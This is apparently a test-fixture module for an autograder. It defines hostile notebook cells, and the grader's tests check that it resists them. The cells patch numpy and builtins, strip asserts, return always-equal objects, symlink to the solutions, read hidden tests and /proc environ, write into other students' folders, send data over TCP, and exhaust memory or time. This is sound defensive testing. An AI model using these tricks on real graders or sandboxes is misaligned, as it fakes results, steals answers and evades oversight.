"""Hostile notebooks: one attack each on the notebook grader, as data.

Each entry rewrites ONE answer cell of one lesson (the only notebook code grading runs)
or the notebook file itself, on top of an honest base submission: ``stubs`` (the
released stubs and student notebooks, worth 0) or ``solved`` (the reference package and
the solved lessons, worth full marks). ``{repo}``, ``{port}`` and ``{other}`` in the code
are replaced by the repository root, a TCP port the test listens on, and another
student's folder.

What each must show (tests/test_hostile_notebooks.py): it earns no more than its base
without the attack, notebook by notebook; every notebook it does not touch is graded
exactly as in the base; nothing outside its own folder is read or written; no connection
arrives; no process it started outlives grading.
"""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass
from pathlib import Path

from autograder.paths import ROOT


@dataclass(frozen=True)
class HostileNotebook:
    """One hostile notebook: the answer cell (or file) replaced, and on which base."""

    name: str
    description: str
    lesson: str  # notebook stem, e.g. "00_setup_and_data"
    cell: str  # grade_id of the answer cell replaced ("" = the file is replaced, see kind)
    code: str
    base: str = "stubs"  # "stubs" or "solved"
    kind: str = "answer"  # "answer" | "link" (the notebook becomes a link to `code`)
    needs_bwrap: bool = False  # meaningless (or unsafe) without the sandbox
    # What must appear in the worker's output: proves the attack really ran.
    output: str = ""


_NUM_BATCHES_STUB = """
def num_batches(n, batch_size, drop_last=False):
    raise NotImplementedError()
"""

HOSTILE_NOTEBOOKS: tuple[HostileNotebook, ...] = (
    HostileNotebook(
        "redefine_quiet",
        "redefines quiet() so that it swallows every failure, and leaves the answer a stub",
        "00_setup_and_data",
        "l00_num_batches",
        _NUM_BATCHES_STUB
        + """
from contextlib import contextmanager
@contextmanager
def quiet():
    try:
        yield
    except BaseException:
        pass
print("hostile: quiet redefined")
""",
        output="quiet redefined",
    ),
    HostileNotebook(
        "ipython_hooks",
        "registers IPython pre_run_cell hooks and an AST transformer that deletes asserts",
        "01_forward_pass",
        "l01_count_parameters",
        """
def count_parameters(sizes):
    return 0
try:
    import ast
    from IPython import get_ipython
    ip = get_ipython()
    class NoAsserts(ast.NodeTransformer):
        def visit_Assert(self, node):
            return None
    if ip is not None:
        ip.ast_transformers.append(NoAsserts())
        ip.events.register("pre_run_cell", lambda *a: None)
    print("hostile: hooks tried, shell =", ip)
except Exception as error:
    print("hostile: hooks failed", error)
""",
        output="hostile: hooks",
    ),
    HostileNotebook(
        "patch_numpy_and_builtins",
        "patches numpy's comparisons and builtins.isinstance, answer wrong",
        "05_training_mnist",
        "l05_accuracy",
        """
import builtins
np.isclose = lambda *a, **k: True
np.allclose = lambda *a, **k: True
builtins.isinstance = lambda *a, **k: True
builtins.AssertionError = type("Nope", (Exception,), {})
def accuracy(logits, y):
    return -1.0
print("hostile: numpy and builtins patched")
""",
        output="numpy and builtins patched",
    ),
    HostileNotebook(
        "always_equal",
        "returns objects whose == is always True and whose float() is whatever is asked",
        "04_optimisers",
        "l04_rmsprop_first_step",
        """
class Anything(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
class Yes:
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
def rmsprop_first_step(lr, alpha):
    return Yes()
def max_stable_lr(curvature):
    return Anything(-1.0)
""",
    ),
    HostileNotebook(
        "sys_modules_swap",
        "replaces numpy in sys.modules with a fake whose every comparison passes",
        "02_softmax_cross_entropy",
        "l02_uniform_case",
        """
import sys, types
fake = types.ModuleType("numpy")
fake.isclose = fake.allclose = lambda *a, **k: True
sys.modules["numpy"] = fake
def uniform_case(K):
    return 0.0, 0.0
""",
    ),
    HostileNotebook(
        "pickled_payload",
        "returns an object array and a pickle of a callable instead of data",
        "05_training_mnist",
        "l05_accuracy",
        """
import pickle
def accuracy(logits, y):
    payload = np.empty(1, dtype=object)
    payload[0] = pickle.dumps(print)
    return payload
""",
    ),
    HostileNotebook(
        "exit_in_answer",
        "sys.exit() when the answer cell runs",
        "00_setup_and_data",
        "l00_num_batches",
        "import sys\nsys.exit(0)\n",
    ),
    HostileNotebook(
        "os_exit_one_notebook",
        "os._exit(1) in lesson 05's answer cell: only that notebook's cell may lose",
        "05_training_mnist",
        "l05_accuracy",
        "import os\nprint('hostile: exiting', flush=True)\nos._exit(1)\n",
        base="solved",
        output="hostile: exiting",
    ),
    HostileNotebook(
        "infinite_loop",
        "an answer cell that never finishes: only its own test cell times out",
        "04_optimisers",
        "l04_max_stable_lr",
        "while True:\n    pass\n",
        base="solved",
    ),
    HostileNotebook(
        "memory_bomb",
        "allocates 50 GB in the answer cell",
        "01_forward_pass",
        "l01_count_parameters",
        "hog = bytearray(50 * 1024**3)\n",
        base="solved",
    ),
    HostileNotebook(
        "fork_and_detach",
        "starts a detached process meant to rewrite the results after grading",
        "00_setup_and_data",
        "l00_num_batches",
        _NUM_BATCHES_STUB
        + """
import os, subprocess
for attempt in ("fork", "popen"):
    try:
        if attempt == "fork":
            if os.fork() == 0:
                os.setsid()
                import time; time.sleep(3)
                open("{other}/results.json", "w").write('{"score": 200}')
                os._exit(0)
        else:
            subprocess.Popen(["sh", "-c", "sleep 3; echo pwned > {other}/results.json"],
                             start_new_session=True)
        print("hostile: started", attempt)
    except Exception as error:
        print("hostile: refused", attempt, type(error).__name__)
""",
        output="hostile: ",
    ),
    HostileNotebook(
        "read_hidden_and_solutions",
        "reads the source notebooks, hidden tests, reference and /proc, prints what it found",
        "02_softmax_cross_entropy",
        "l02_uniform_case",
        """
import glob, os
found = []
for pattern in ("{repo}/solutions/lessons/*.ipynb", "{repo}/autograder/hidden/*.py",
                "{repo}/solutions/numpynet/*.py", "/proc/1/environ", "/proc/*/cwd"):
    for path in glob.glob(pattern):
        try:
            found.append((path, open(path, errors="replace").read(200)))
        except Exception:
            pass
print("hostile: found", len(found), "files")
for path, text in found:  # /proc shows only the sandbox's own processes
    print("saw" if path.startswith("/proc") else "READ", path, text.replace("\\n", " ")[:80])
def uniform_case(K):
    raise NotImplementedError()
""",
        needs_bwrap=True,
        output="hostile: found",
    ),
    HostileNotebook(
        "write_outside",
        "writes into the instructor's checkout and another student's folder",
        "03_backpropagation",
        "l03_relative_error_and_gradient_check",
        """
for path in ("{repo}/HOSTILE_NOTEBOOK_WAS_HERE", "{other}/results.json"):
    try:
        open(path, "w").write("pwned")
        print("WROTE", path)
    except Exception as error:
        print("hostile: could not write", path, type(error).__name__)
def relative_error(a, b):
    raise NotImplementedError()
def gradient_check(model, X, y):
    raise NotImplementedError()
""",
        needs_bwrap=True,
        output="hostile: could not write",
    ),
    HostileNotebook(
        "network",
        "sends what it can over TCP to 127.0.0.1 and to the internet",
        "01_forward_pass",
        "l01_count_parameters",
        """
import socket
for address in (("127.0.0.1", {port}), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=2).sendall(b"leak")
        print("CONNECTED", address)
    except OSError as error:
        print("hostile: no network", type(error).__name__)
def count_parameters(sizes):
    raise NotImplementedError()
""",
        needs_bwrap=True,
        output="hostile: no network",
    ),
    HostileNotebook(
        "output_flood",
        "prints 20 MB to stdout and stderr",
        "00_setup_and_data",
        "l00_num_batches",
        _NUM_BATCHES_STUB
        + """
import sys
sys.stdout.write("x" * 10_000_000)
sys.stderr.write("y" * 10_000_000)
""",
    ),
    HostileNotebook(
        "link_to_solutions",
        "the notebook is a symbolic link to the instructor's solved lesson",
        "02_softmax_cross_entropy",
        "",
        "{repo}/solutions/lessons/02_softmax_cross_entropy.ipynb",
        kind="link",
    ),
    HostileNotebook(
        "edited_test_cell",
        "rewrites a test cell to `pass` and answers wrong",
        "00_setup_and_data",
        "l00_num_batches_tests",
        "pass\n",
        kind="test",
    ),
)


def materialise(
    entry: HostileNotebook, out_dir: str | Path, port: int = 9, other: str | Path = "/nonexistent"
) -> Path:
    """Write ``<out_dir>/<name>/`` (package + six notebooks) with the attack applied."""
    target = Path(out_dir) / entry.name
    write_base(entry.base, target)
    code = (
        entry.code.replace("{repo}", str(ROOT))
        .replace("{port}", str(port))
        .replace("{other}", str(other))
    )
    notebook = target / "lessons" / f"{entry.lesson}.ipynb"
    if entry.kind == "link":
        notebook.unlink()
        notebook.symlink_to(code)
        return target
    data = json.loads(notebook.read_text())
    for cell in data["cells"]:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == entry.cell:
            cell["source"] = code
            break
    else:
        raise KeyError(f"{entry.lesson} has no cell {entry.cell!r}")
    notebook.write_text(json.dumps(data))
    return target


def write_base(base: str, target: Path) -> Path:
    """An honest submission: ``stubs`` (worth 0) or ``solved`` (worth full marks)."""
    if target.exists():
        shutil.rmtree(target)
    ignore = shutil.ignore_patterns("__pycache__", "*.pyc", ".*")
    if base == "stubs":
        shutil.copytree(ROOT / "numpynet", target / "numpynet", ignore=ignore)
        shutil.copytree(ROOT / "lessons", target / "lessons", ignore=ignore)
    elif base == "solved":
        shutil.copytree(ROOT / "solutions" / "numpynet", target / "numpynet", ignore=ignore)
        shutil.copytree(ROOT / "solutions" / "lessons", target / "lessons", ignore=ignore)
    else:
        raise ValueError(f"base must be 'stubs' or 'solved', got {base!r}")
    return target
